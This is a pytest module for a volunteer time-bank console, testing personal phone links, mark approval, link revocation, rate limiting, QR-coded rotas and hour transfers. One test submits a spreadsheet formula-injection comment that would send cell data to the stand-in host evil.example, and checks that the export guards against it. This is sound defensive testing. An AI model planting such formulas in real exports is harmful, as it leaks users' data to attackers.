"""Volunteers' personal links: their own activities only, a repeated mark is one mark,
tampered and revoked links answer 404, and approval records into the time bank once."""

from __future__ import annotations

import base64
import dataclasses
import io
import re

import pandas as pd
import pytest

from matching.console import create_app, pages, service
from matching.console.links import TOKEN_CHARS, Link, Links, RateLimit
from matching.console.store import Store
from matching.ledger import open_ledger
from tests.console.conftest import fortnight_copy
from tests.console.test_app import local
from tests.console.test_language import english_words
from tests.ledger.test_book import served

#: One worker runs this module's tests in order: they share a console and its marks.
pytestmark = pytest.mark.xdist_group("links")

START = "2026-03-30"
#: Days the links work after the horizon, so that a past fortnight's links still work.
LONG_AFTER = 36_500


@pytest.fixture(scope="module")
def linked(tmp_path_factory, fortnight_source):
    """Minle planned for two weeks from 30 March 2026 by the real command, with its
    volunteers' links."""
    data, run_id = fortnight_copy(fortnight_source, tmp_path_factory.mktemp("links") / "data")
    # the fortnight is in the past: its links would have expired 30 days after it
    with local(create_app(data, link_days=LONG_AFTER)) as client:
        links = {row["volunteer_id"]: row["url"]
                 for row in client.get(f"/api/runs/{run_id}/links").json()}
        yield client, run_id, links, data


def visits(client, url: str) -> list[dict]:
    return [a for a in client.get(f"{url}/activities").json() if a["activity"] == "visit"]


def two_volunteers(client, links) -> tuple[str, str]:
    """Two volunteers with at least two visits each in the fortnight."""
    found = [v for v, url in sorted(links.items()) if len(visits(client, url)) >= 2]
    return found[0], found[1]


def balance(client, member: str) -> float:
    rows = client.get("/api/programmes/minle/timebank/balances").json()
    return next((r["balance_hours"] for r in rows if r["member_id"] == member), 0.0)


@pytest.mark.slow
def test_marks_from_phones_are_theirs_only_and_approved_once(linked):
    client, run_id, links, _ = linked
    a, b = two_volunteers(client, links)
    url_a, url_b = links[a], links[b]
    # the urls are /v/ and a 32-character token, one per volunteer with activities
    assert url_a.startswith("/v/") and len(url_a) == 3 + TOKEN_CHARS
    assert len(set(links.values())) == len(links)
    first, second = visits(client, url_a)[:2]
    call = next(x for x in client.get(f"{url_a}/activities").json() if x["activity"] == "call")

    def mark(url, activity, status, **extra):
        return client.post(f"{url}/marks", json={
            "date": activity["date"], "activity": activity["activity"],
            "elder_id": activity["elder_id"], "status": status, **extra})

    assert mark(url_a, first, "done", minutes=50).status_code == 201
    assert mark(url_a, second, "done", minutes=50).status_code == 201
    assert mark(url_a, call, "missed").status_code == 201
    again = mark(url_a, second, "done", minutes=50)  # a flaky connection sends it twice
    assert again.status_code == 200 and again.json()["new"] is False
    pending = client.get("/api/programmes/minle/timebank/pending").json()
    assert len(pending) == 3
    assert sorted(p["status"] for p in pending) == ["done", "done", "missed"]
    assert {p["volunteer_id"] for p in pending} == {a}

    # the other volunteer's visit through this link; a tampered link; a revoked one
    assert mark(url_a, visits(client, url_b)[0], "done").status_code == 404
    tampered = url_a[:-1] + ("A" if url_a[-1] != "A" else "B")
    assert client.get(tampered).status_code == 404
    assert mark(tampered, first, "done").status_code == 404
    assert client.post(f"/api/runs/{run_id}/links/{b}/revoke").status_code == 200
    assert client.get(url_b).status_code == 404
    assert client.get(f"{url_b}/activities").status_code == 404
    assert mark(url_b, visits(client, url_a)[0], "done").status_code == 404
    assert len(client.get("/api/programmes/minle/timebank/pending").json()) == 3
    # reissued on request: a new link that works
    renewed = {r["volunteer_id"]: r["url"] for r in
               client.get(f"/api/runs/{run_id}/links").json()}
    assert renewed[b] != url_b and client.get(renewed[b]).status_code == 200
    assert renewed[a] == url_a

    # approval: two visits of 50 minutes, the missed call nothing: 100 minutes
    before = balance(client, a)
    ids = [p["id"] for p in pending]
    approved = client.post("/api/programmes/minle/timebank/approve", json={"ids": ids})
    assert approved.status_code == 200, approved.text
    assert approved.json()["credited_minutes"] == 100
    assert (approved.json()["done"], approved.json()["missed"]) == (2, 1)
    assert balance(client, a) - before == pytest.approx(100 / 60, abs=0.006)
    assert client.get("/api/programmes/minle/timebank/pending").json() == []
    # approving again records nothing twice
    again = client.post("/api/programmes/minle/timebank/approve", json={"ids": ids})
    assert again.status_code == 409
    assert {p["code"] for p in again.json()["problems"]} == {"input.mark_approved"}
    assert balance(client, a) - before == pytest.approx(100 / 60, abs=0.006)
    # and an approved mark is final on the phone too
    assert mark(url_a, first, "missed").status_code == 409
    done = [x for x in client.get(f"{url_a}/activities").json() if x["mark"]]
    assert {x["mark"]["state"] for x in done} == {"approved"}


@pytest.mark.slow
def test_a_formula_in_a_phone_comment_is_guarded_in_the_kept_rota(linked):
    """Issue 30, attack 7: a volunteer's comment ``=HYPERLINK(...)`` is kept in the marked
    rota beside the ledger (``timebank/phone-*.csv``) with the guard in front, like every
    CSV the project writes."""
    client, _, links, data = linked
    volunteer = sorted(links)[len(links) // 2]  # one no other test of the module marks
    visit = visits(client, links[volunteer])[0]
    comment = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
    assert client.post(f"{links[volunteer]}/marks", json={
        "date": visit["date"], "activity": "visit", "elder_id": visit["elder_id"],
        "status": "done", "minutes": 30, "comment": comment}).status_code == 201
    pending = [p["id"] for p in client.get("/api/programmes/minle/timebank/pending").json()
               if p["volunteer_id"] == volunteer]
    before = set((data / "programmes" / "minle").rglob("phone-*.csv"))
    assert client.post("/api/programmes/minle/timebank/approve",
                       json={"ids": pending}).status_code == 200
    (kept,) = set((data / "programmes" / "minle").rglob("phone-*.csv")) - before
    text = kept.read_text(encoding="utf-8")
    assert f"'{comment}".replace('"', '""') in text
    assert not any(cell.startswith("=") for line in text.splitlines()
                   for cell in line.split(","))


@pytest.mark.slow
def test_the_week_form_records_the_rest_of_a_week_approved_in_part(linked):
    """After phone marks of the first week are approved, the coordinator's week form
    records every other activity of that week, and not those again."""
    client, run_id, _, _ = linked
    page = client.get("/p/minle/timebank?week=2026-03-30").text
    approved_rows = page.count("已记入时间银行")
    schedule = pd.read_csv(io.StringIO(client.get(
        f"/api/runs/{run_id}/files/schedule.csv").text), dtype=str, keep_default_na=False)
    week = schedule[(schedule["date"] >= "2026-03-30") & (schedule["date"] < "2026-04-06")
                    & (schedule["activity"] != "call")]
    token = page.split('name="csrf" value="')[1].split('"')[0]
    answer = client.post("/p/minle/timebank", data={
        "csrf": token, "week": "2026-03-30", "all_done": "confirm"}, follow_redirects=False)
    assert answer.status_code == 303, answer.text[:500]
    done = int(answer.headers["location"].split("recorded=")[1].split("-")[0])
    assert done == len(week) - approved_rows


@pytest.mark.slow
def test_bad_marks_are_refused_with_the_field_named(linked):
    client, _, links, _ = linked
    vid = sorted(links)[-1]
    url = links[vid]
    visit = visits(client, url)[0]
    base = {"date": visit["date"], "activity": "visit", "elder_id": visit["elder_id"]}
    for extra, column in (({"status": "maybe"}, "status"),
                          ({"status": "done", "minutes": "9999"}, "minutes"),
                          ({"status": "done", "rating": "6"}, "rating"),
                          ({"status": "replaced", "done_by": vid}, "done_by")):
        answer = client.post(f"{url}/marks", json={**base, **extra})
        assert answer.status_code == 422
        assert [p["column"] for p in answer.json()["problems"]] == [column]
    assert client.post(f"{url}/marks", json={**base, "date": "2026-01-01",
                                             "status": "done"}).status_code == 404
    # someone else stood in: any other volunteer of the run, by id
    other = sorted(links)[0]
    answer = client.post(f"{url}/marks", json={**base, "status": "replaced",
                                               "done_by": other, "minutes": "45"})
    assert answer.status_code == 201
    mine = [p for p in client.get("/api/programmes/minle/timebank/pending").json()
            if p["volunteer_id"] == vid]
    assert [(p["status"], p["done_by"], p["minutes"]) for p in mine] == [
        ("replaced", other, "45")]


@pytest.mark.slow
def test_the_phone_page_marks_with_a_form_and_shows_it(linked):
    client, _, links, _ = linked
    vid = sorted(links)[-2]
    url = links[vid]
    page = client.get(url)
    assert page.status_code == 200 and "您好" in page.text and "完成" in page.text
    visit = visits(client, url)[0]
    answer = client.post(f"{url}/mark", data={
        "date": visit["date"], "activity": "visit", "elder_id": visit["elder_id"],
        "status": "done", "minutes": "", "rating": "5", "comment": "<b>好</b>"},
        follow_redirects=False)
    assert answer.status_code == 303
    page = client.get(answer.headers["location"]).text
    assert "已记录：完成" in page and "已保存" in page
    assert "<b>好</b>" not in page
    # no session cookie for a volunteer's page
    assert "set-cookie" not in client.get(url).headers
    # every word on it Chinese (ids, times and numbers aside), as on the gone page
    assert english_words(page) == []
    assert english_words(client.get(url[:-1] + "x").text) == []


def test_tokens_are_kept_hashed_one_per_volunteer_and_programme(tmp_path):
    links = Links(tmp_path)
    token = links.issue("p", ["V1"])["V1"]
    assert len(token) == TOKEN_CHARS
    stored = (tmp_path / "links.sqlite").read_bytes()
    assert token.encode() not in stored
    assert links.find(token) == Link("p", "V1")
    # the same link again until revoked, then a new one; another programme's is another
    assert links.issue("p", ["V1"])["V1"] == token
    assert links.issue("q", ["V1"])["V1"] != token
    assert links.revoke("p", "V1") and links.find(token) is None
    assert not links.revoke("p", "V1")
    new = links.issue("p", ["V1"])["V1"]
    assert new != token and links.find(new) == Link("p", "V1")
    assert oct((tmp_path / "links.sqlite").stat().st_mode & 0o777) == "0o600"
    assert oct((tmp_path / "link-secret").stat().st_mode & 0o777) == "0o600"


def test_a_guessing_client_is_slowed_down():
    limit = RateLimit(per_minute=5, misses=3)
    assert [limit.allow("x") for _ in range(6)] == [True] * 5 + [False]
    other = RateLimit(per_minute=100, misses=3)
    for _ in range(3):
        assert other.allow("y")
        other.missed("y")
    assert not other.allow("y") and other.allow("z")
    assert other.guessing("y") and not other.guessing("z")


def test_phones_sharing_one_address_are_limited_per_link_not_together():
    """Issue 30, scope 10: 200 phones on an office's wifi share one address; each link has
    its own 120 requests a minute (the console counts requests by link, misses by
    address)."""
    limit = RateLimit()
    assert all(limit.allow(f"minle/V{i:05d}") for i in range(200) for _ in range(3))
    assert not limit.guessing("10.0.0.1")


def test_marks_table_is_one_row_per_activity(tmp_path):
    links = Links(tmp_path)
    token = links.issue("p", ["V1"])["V1"]
    link = dataclasses.replace(links.find(token), run_id="1")
    first = links.mark(link, "2026-03-30", "visit", "E1", "done")
    # marked again under the next plan (run 2): still the same mark, of the activity
    second = links.mark(dataclasses.replace(link, run_id="2"), "2026-03-30", "visit", "E1",
                        "missed")
    assert first == (first[0], True) and second == (first[0], False)
    rows = pd.DataFrame(links.marks(programme="p"))
    assert rows[["status", "state", "run_id"]].values.tolist() == [["missed", "pending", "2"]]
    # rejected with a reason: no longer pending; marked again, it is sent anew
    assert links.reject([first[0]], "时间不对") == [first[0]]
    assert links.marks(programme="p", pending=True) == []
    assert links.marks(programme="p")[0]["state"] == "rejected"
    links.mark(link, "2026-03-30", "visit", "E1", "done")
    again = links.marks(programme="p")[0]
    assert again["state"] == "pending" and again["rejected_reason"] is None


def qr_texts(page: str) -> list[str]:
    """What every QR code on a page says (decoded from its PNG)."""
    zxingcpp = pytest.importorskip("zxingcpp")
    image = pytest.importorskip("PIL.Image")
    out = []
    for uri in re.findall(r'src="data:image/png;base64,([^"]+)"', page):
        picture = image.open(io.BytesIO(base64.b64decode(uri)))
        out += [found.text for found in zxingcpp.read_barcodes(picture)]
    return out


#: The address phones open the console by, as a coordinator sets it on the links page.
PHONES = "http://192.168.1.20:8000"


def set_phone_address(client, run_id: str, address: str):
    page = client.get(f"/runs/{run_id}/links").text
    token = page.split('name="csrf" value="')[1].split('"')[0]
    return client.post(f"/runs/{run_id}/phone-address",
                       data={"csrf": token, "phone_address": address})


@pytest.mark.slow
def test_the_printed_rota_carries_the_link_as_a_qr_code(linked):
    """On this computer's own address, no QR code is printed (no phone could open it) and
    the links page says what to set; once the phones' address is set, each rota page
    carries the link on that address."""
    client, run_id, _, _ = linked
    links = {r["volunteer_id"]: r["url"] for r in
             client.get(f"/api/runs/{run_id}/links").json()}
    vid = sorted(links)[0]
    set_phone_address(client, run_id, "")
    page = client.get(f"/runs/{run_id}/files/rota/{vid}.html").text
    assert qr_texts(page) == [] and "127.0.0.1" not in page
    listing = client.get(f"/runs/{run_id}/links").text
    assert 'id="no-phone-address"' in listing and "/v/" not in listing
    # a loopback address is refused as the phones' address, in one sentence
    refused = set_phone_address(client, run_id, "http://localhost:8000")
    assert refused.status_code == 422 and "手机打不开" in refused.text
    assert set_phone_address(client, run_id, PHONES + "/").status_code == 200
    page = client.get(f"/runs/{run_id}/files/rota/{vid}.html").text
    # one QR code per printed page (a 4-week block: the fortnight is one), saying the link
    assert qr_texts(page) == [f"{PHONES}{links[vid]}"]
    assert "手机记录服务" in page
    overview = client.get(f"/runs/{run_id}/files/rota.html").text
    assert sorted(qr_texts(overview)) == sorted(f"{PHONES}{u}" for u in links.values())


@pytest.mark.slow
def test_the_links_page_gives_links_as_text_and_revokes(linked):
    client, run_id, _, _ = linked
    set_phone_address(client, run_id, PHONES)
    page = client.get(f"/runs/{run_id}/links").text
    assert set(english_words(page)) <= {"minle"}  # the programme's name, as given
    urls = re.findall(r'value="(http://192\.168\.1\.20:8000/v/[^"]+)"', page)
    links = {r["volunteer_id"]: r["url"] for r in
             client.get(f"/api/runs/{run_id}/links").json()}
    assert sorted(urls) == sorted(f"{PHONES}{u}" for u in links.values())
    vid = sorted(links)[3]
    token = page.split('name="csrf" value="')[1].split('"')[0]
    answer = client.post(f"/runs/{run_id}/links/{vid}/revoke", data={"csrf": token},
                         follow_redirects=False)
    assert answer.status_code == 303
    assert client.get(links[vid]).status_code == 404
    after = client.get(answer.headers["location"]).text
    assert 'id="revoked"' in after and links[vid] not in after


@pytest.mark.slow
def test_the_time_bank_page_lists_the_first_pending_marks_and_counts_the_rest(linked,
                                                                              monkeypatch):
    """With more marks waiting than the page lists, it names how many are listed and how
    many wait (approving all approves every one)."""
    client, _, links, _ = linked
    vid = sorted(links)[len(links) // 3]
    for visit in visits(client, links[vid])[:2]:
        assert client.post(f"{links[vid]}/marks", json={
            "date": visit["date"], "activity": "visit", "elder_id": visit["elder_id"],
            "status": "done"}).status_code in (200, 201)
    waiting = len(client.get("/api/programmes/minle/timebank/pending").json())
    assert waiting >= 2
    monkeypatch.setattr(pages, "MAX_SHOWN_MARKS", 1)
    page = client.get("/p/minle/timebank?week=2026-03-30").text
    assert page.count('name="approve" value=') == 1
    assert f"共 {waiting:,} 条待审核，这里列出第 1 至 1 条" in page
    second = client.get("/p/minle/timebank?week=2026-03-30&pending_page=2").text
    assert second.count('name="approve" value=') == 1 and "这里列出第 2 至 2 条" in second


@pytest.mark.slow
def test_a_transfer_moves_hours_between_members_once(linked):
    """``POST /api/programmes/{name}/transfers``: half an hour of the hour M-giver banked
    to a relative, in one balanced entry; more than they have is refused (409, the
    overdraft named) and moves nothing; the audit log says who moved what."""
    client, _, _, data = linked
    with open_ledger(service.ledger_path(Store(data), "minle")) as ledger:
        ledger.record(served(("2026-03-31", "M-giver", "E-someone", 60, None)))
    giver = {"member_id": "M-giver"}
    moved = client.post("/api/programmes/minle/transfers", json={
        "from_member": giver["member_id"], "to_member": "M-relative", "hours": 0.5})
    assert moved.status_code == 200, moved.text
    assert moved.json()["balances"] == {"M-giver": 0.5, "M-relative": 0.5}
    assert balance(client, "M-relative") == 0.5
    refused = client.post("/api/programmes/minle/transfers", json={
        "from_member": "M-relative", "to_member": giver["member_id"], "hours": 2})
    assert refused.status_code == 409
    assert [p["code"] for p in refused.json()["problems"]] == ["input.overdraw"]
    assert balance(client, "M-relative") == 0.5
    bad = client.post("/api/programmes/minle/transfers", json={
        "from_member": giver["member_id"], "to_member": "M-relative", "hours": -1})
    assert bad.status_code == 422
    actions = [e["action"] for e in client.get("/api/programmes/minle/audit").json()]
    assert actions.count("transfer") == 1
